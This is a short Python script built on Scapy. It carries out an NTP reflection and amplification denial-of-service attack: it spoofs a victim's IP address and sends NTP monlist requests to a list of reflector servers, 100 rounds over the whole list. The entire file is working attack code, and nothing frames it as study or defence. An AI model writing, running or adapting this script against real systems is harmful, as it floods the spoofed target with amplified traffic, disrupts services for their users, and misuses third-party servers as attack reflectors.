from scapy.all import IP, UDP, Raw, send

victim = "198.51.100.5"
reflectors = [line.strip() for line in open("/content/ntp_servers.txt") if line.strip()]
monlist = b"\x17\x00\x03\x2a" + b"\x00" * 4

for _ in range(100):
    for r in reflectors:
        send(IP(src=victim, dst=r) / UDP(sport=123, dport=123) / Raw(load=monlist), verbose=False)
